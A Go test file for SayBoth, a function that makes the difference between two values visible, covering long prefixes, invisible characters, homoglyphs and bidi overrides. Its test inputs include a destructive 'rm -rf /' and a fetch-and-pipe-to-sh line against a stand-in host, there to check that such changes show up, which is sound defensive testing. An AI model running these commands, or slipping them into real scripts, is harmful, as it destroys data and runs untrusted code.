package kind

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"
)

// The difference is visible after a long common prefix.
func TestSayBothShowsTheDifference(t *testing.T) {
	long := strings.Repeat("0123456789", 300)
	was, is := SayBoth("echo "+long+"; date", "echo "+long+"; rm -rf /")
	if !strings.HasSuffix(was.Plain(), "; date") || !strings.HasSuffix(is.Plain(), "; rm -rf /") || len(is.Plain()) > 80 {
		t.Error(was.Plain(), is.Plain())
	}
	if was, is := SayBoth("web:1", "web:2"); was != Say("%s", "web:1") || is != Say("%s", "web:2") {
		t.Error(was.Plain(), is.Plain())
	}
	if was, is := SayBoth(long, long+"; date"); was.Plain() == is.Plain() || !strings.HasSuffix(is.Plain(), "; date") {
		t.Error(was.Plain(), is.Plain())
	}
}

// Values that differ in what nobody sees are told apart.
func TestSayBothTellsInvisibleDifferences(t *testing.T) {
	for _, test := range []struct{ before, after, want string }{
		{"on", "on ", `<"on"> → <"on ">`},
		{"\ton", "off", `<"\ton"> → <"off">`},
		{" on", "off ", `<" on"> → <"off ">`},
		{"a\n", "a", `<"a\n"> → <"a">`},
		{"a\nb\n", "a\nc\n", `<a\nb> → <a\nc>`},
		{"a\nb", "a\r\nb", `<a\nb> → <a\r\nb>`},
		{"a", "a\x00", `<a> → <a\x00>`},
		{"ab", "a\u200bb", `<ab> → <a\u200bb>`},
		{"a\u202eb", `a\u202eb`, `<"a\u202eb"> → <"a\\u202eb">`},
		{"", `""`, `<""> → <"\"\"">`},
		{"", " ", `<""> → <" ">`},
		{"root", "r\u043eot", `<"root"> → <"r\u043eot">`},
		{"caf\u00e9", "cafe\u0301", `<"caf\u00e9"> → <"cafe\u0301">`},
		{"Größe 1", "Größe 2", `<Größe 1> → <Größe 2>`},
	} {
		was, is := SayBoth(test.before, test.after)
		got := Say("%s → %s", was, is).Format(func(value string) string { return "<" + value + ">" })
		if got != test.want {
			t.Errorf("%q and %q: %s, want %s", test.before, test.after, got, test.want)
		}
	}
}

// No pair of different values has the same words, whatever is cut.
func FuzzSayBothTellsValuesApart(f *testing.F) {
	for _, pair := range [][2]string{
		{"a", "b"}, {"", " "}, {strings.Repeat("a", 2000), strings.Repeat("a", 2001)},
		{strings.Repeat("ab\n", 900), strings.Repeat("ba\n", 900)}, {strings.Repeat("x ", 900), strings.Repeat("x  ", 900)},
		{strings.Repeat("a", 700) + "b", strings.Repeat("a", 700) + "c" + strings.Repeat("a", 700)},
		{strings.Repeat("…", 90), strings.Repeat("…", 91)},
	} {
		f.Add(pair[0], pair[1])
	}
	f.Fuzz(func(t *testing.T, before, after string) {
		if !utf8.ValidString(before) || !utf8.ValidString(after) {
			return // YAML and JSON have no such text
		}
		if was, is := SayBoth(before, after); before != after && was == is {
			t.Errorf("%q and %q are both %q", before, after, was)
		}
	})
}

// A long value shows each part that differs, wherever it is, and counts what it cannot show.
func TestSayBothShowsEachDifference(t *testing.T) {
	var lines []string
	for i := range 400 {
		lines = append(lines, fmt.Sprintf("restore table %d", i))
	}
	script := strings.Join(lines, "\n")
	changed := "# 2\n" + strings.Replace(script, "table 200\n", "table 200\nfetch http://elsewhere.example/"+strings.Repeat("a/", 60)+" | sh\n", 1) + " now"
	was, is := SayBoth("# 1\n"+script, changed)
	if !strings.Contains(is.Plain(), "elsewhere") || strings.Contains(was.Plain(), "elsewhere") || !strings.HasPrefix(is.Plain(), `# 2\nrestore`) || !strings.HasSuffix(is.Plain(), "399 now") || len(is.Plain()) > 400 {
		t.Error(was.Plain(), is.Plain())
	}
	flat := strings.ReplaceAll(script, "\n", ";")
	was, is = SayBoth(flat, strings.NewReplacer("table 20;", "table x;", "table 300;", "table y;", "table 390;", "table z;").Replace(flat))
	if !strings.HasPrefix(was.Plain(), "…") || strings.Count(is.Plain(), "…") != 4 || len(is.Plain()) > 200 {
		t.Error(was.Plain(), is.Plain())
	}
	if _, is := SayBoth(script, strings.ToUpper(script)); !strings.HasSuffix(is.Plain(), " more characters)") {
		t.Error(is.Plain())
	}
}

// Every value of a manifest in a Sentence is quoted.
func TestSayQuotesValues(t *testing.T) {
	type name string
	quote := func(value string) string { return "<" + value + ">" }
	for _, test := range []struct {
		sentence Sentence
		want     string
	}{
		{Say("%s %s", "a", name("b")), "<a> <b>"},
		{Say("%d of %s", 2, Count(3, "Pod")), "2 of 3 Pods"},
		{Say("%s", Say("x %s", "a")), "x <a>"},
		{Say("%s", "a\x00b\n "), `<a\x00b>`},
		{Say("%s", " "), `<"">`},
		{Say("%s", "\u3164\u202e"), `<\u3164\u202e>`},
	} {
		if got := test.sentence.Format(quote); got != test.want {
			t.Errorf("%q, want %q", got, test.want)
		}
	}
}

func TestPluralIsRegular(t *testing.T) {
	for noun, want := range map[string]string{"Pod": "Pods", "Proxy": "Proxies", "Key": "Keys", "Ingress": "Ingresses", "Box": "Boxes", "Batch": "Batches", "Memcached": "Memcacheds"} {
		if got := Plural(noun); got != want {
			t.Errorf("%s: %s, want %s", noun, got, want)
		}
	}
}
